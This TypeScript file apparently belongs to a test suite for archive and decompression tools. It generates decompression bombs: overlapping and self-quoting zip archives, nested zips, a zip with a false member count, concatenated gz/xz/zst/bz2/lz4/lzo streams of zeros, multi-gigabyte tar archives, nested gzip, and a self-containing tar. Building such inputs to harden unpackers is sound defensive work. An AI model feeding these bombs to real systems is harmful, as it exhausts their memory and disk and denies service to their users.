/** Little that becomes much when it is unpacked. */

import { createWriteStream } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { TAR_END, tarHead, tarMember } from '../make/tar.ts';
import { packed, program, repeated } from '../make/tools.ts';
import { type ZipFacts, zip, zipEnd, zipEntry, zipHead } from '../make/zip.ts';
import { type HostileInput, input } from './input.ts';

const MIB = 1024 ** 2;
const GIB = 1024 ** 3;

/** One compressed stream of zeros after the other: what follows the first is unpacked, too. */
function streams(
  from: string,
  to: readonly string[],
  compress: readonly string[],
  times: number,
): HostileInput {
  return {
    aim: 'exhaust',
    name: `a ${from} file of ${times / 4} GiB of zeros`,
    file: `bomb.${from}`,
    from,
    targets: to,
    async make(path) {
      const one = await program(compress, { stdin: Buffer.alloc(256 * MIB) });
      await pipeline(Readable.from(repeated(one, times)), createWriteStream(path));
    },
  };
}

/** A tar archive with one file of zeros. Most compressed streams may be joined, so that the zeros are compressed once. */
function tarOfZeros(
  from: string,
  to: readonly string[],
  compress: readonly string[],
  gib: number,
): HostileInput {
  const head = tarHead('zeros', '0', 0o644, gib * GIB);
  return {
    aim: 'exhaust',
    name: `a ${from} archive with a file of ${gib} GiB of zeros`,
    file: `bomb.${from}`,
    from,
    targets: to,
    async make(path) {
      const [first, zeros, last] = await Promise.all(
        [head, Buffer.alloc(256 * MIB), TAR_END].map((stdin) => program(compress, { stdin })),
      );
      const all = [first, ...repeated(zeros ?? Buffer.alloc(0), gib * 4), last];
      await writeFile(path, Buffer.concat(all.filter((part) => part !== undefined)));
    },
  };
}

/** The same where streams cannot be joined. */
function tarOfZerosInOneStream(gib: number): HostileInput {
  return {
    ...tarOfZeros('tar.br', ['tar', 'squashfs'], [], gib),
    make: (path) =>
      packed(
        ['brotli', '-q', '1', '-c'],
        (function* () {
          yield tarHead('zeros', '0', 0o644, gib * GIB);
          yield* repeated(Buffer.alloc(MIB), gib * 1024);
          yield TAR_END;
        })(),
        path,
      ),
  };
}

/** All entries of the directory lead to the same data. */
function overlapping(entries: number): Buffer {
  const zeros = Buffer.alloc(64 * MIB);
  const data = deflateRawSync(zeros);
  const sum = crc32(zeros);
  const facts = (name: string): ZipFacts => ({
    name: Buffer.from(name),
    method: 8,
    sum,
    packed: data.length,
    bytes: zeros.length,
  });
  const head = zipHead(facts('0000'));
  const directory = Array.from({ length: entries }, (_, index) =>
    zipEntry(facts(String(index).padStart(4, '0')), 0),
  );
  return Buffer.concat([head, data, ...directory, zipEnd(directory, head.length + data.length)]);
}

/** Each member's data begin with a stored block that quotes the heads of those behind it, down to one kernel. */
function quoted(entries: number): Buffer {
  const zeros = Buffer.alloc(64 * MIB);
  const kernel = deflateRawSync(zeros);
  let content = zeros.length;
  let tail = kernel;
  let sum = crc32(zeros);
  const tails: { head: Buffer; facts: ZipFacts; quote: Buffer }[] = [];
  for (let index = entries - 1; index >= 0; index--) {
    const facts = {
      name: Buffer.from(String(index).padStart(4, '0')),
      method: 8,
      sum,
      packed: tail.length,
      bytes: content,
    };
    const head = zipHead(facts);
    const quote = Buffer.alloc(5);
    quote.writeUInt16LE(head.length, 1);
    quote.writeUInt16LE(0xffff ^ head.length, 3);
    tails.unshift({ head, facts, quote });
    tail = Buffer.concat([quote, head, tail]);
    content += head.length;
    // Right for the first only: a reader that minds notices after it has unpacked.
    sum = crc32(head);
  }
  const body: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [index, { head, facts, quote }] of tails.entries()) {
    if (index > 0) {
      body.push(quote);
      at += quote.length;
    }
    directory.push(zipEntry(facts, at));
    body.push(head);
    at += head.length;
  }
  return Buffer.concat([...body, kernel, ...directory, zipEnd(directory, at + kernel.length)]);
}

/** Archives in archives, ten in each, five levels down; at the end 16 MiB of zeros. */
function nested(): Buffer {
  let inner = zip([{ name: 'zeros', content: Buffer.alloc(16 * MIB) }]);
  for (let level = 0; level < 5; level++)
    inner = zip(Array.from({ length: 10 }, (_, index) => ({ name: `${index}.zip`, content: inner })));
  return inner;
}

export const bombs: readonly HostileInput[] = [
  input(
    'exhaust',
    'a zip archive whose 1,000 members are the same data',
    'overlap.zip',
    ['zip', 'tar', 'xar'],
    () => overlapping(1000),
  ),
  input('exhaust', 'a zip archive whose members quote each other', 'quoted.zip', ['zip', 'tar', '7z'], () =>
    quoted(1000),
  ),
  input('exhaust', 'zip archives in zip archives', '42.zip', ['zip', 'tar', 'squashfs'], nested),
  input(
    'exhaust',
    'a zip archive that claims to have more members than it has',
    'claims.zip',
    ['zip', 'tar'],
    () => {
      const archive = zip([{ name: 'x', content: 'x' }]);
      archive.writeUInt16LE(0xffff, archive.length - 22 + 10);
      archive.writeUInt16LE(0xffff, archive.length - 22 + 8);
      return archive;
    },
  ),
  streams('gz', ['xz', 'zst'], ['gzip', '-1'], 40),
  streams('xz', ['gz'], ['xz', '-1'], 40),
  streams('zst', ['gz'], ['zstd', '-q', '-1'], 400),
  streams('bz2', ['gz'], ['bzip2', '-1'], 40),
  streams('lz4', ['gz'], ['lz4', '-q', '-1'], 40),
  streams('lzo', ['gz'], ['lzop', '-q', '-1'], 40),
  tarOfZeros('tar.gz', ['xar', 'zip'], ['gzip', '-1'], 8),
  tarOfZerosInOneStream(6),
  tarOfZeros('tar.zst', ['arj', '7z'], ['zstd', '-q', '-1'], 8),
  input('exhaust', 'a gzip file in a gzip file, eight times', 'nested.gz', ['gz', 'bz2'], () => {
    let bytes: Buffer = gzipSync(Buffer.alloc(200 * MIB));
    for (let level = 0; level < 8; level++) bytes = gzipSync(bytes);
    return bytes;
  }),
  input('exhaust', 'a gzip file whose name has no end', 'name.gz', ['gz', 'xz'], () =>
    Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]), Buffer.alloc(8 * MIB, 'n')]),
  ),
  input(
    'exhaust',
    'a tar archive that is its own member many times',
    'self.tar',
    ['tar', 'zip', 'arj'],
    () => {
      let archive: Buffer = Buffer.concat([tarMember({ name: 'x', content: 'x' }), TAR_END]);
      for (let level = 0; level < 12; level++)
        archive = Buffer.concat([
          ...Array(2).fill(tarMember({ name: `${level}.tar`, content: archive })),
          TAR_END,
        ]);
      return archive;
    },
  ),
];
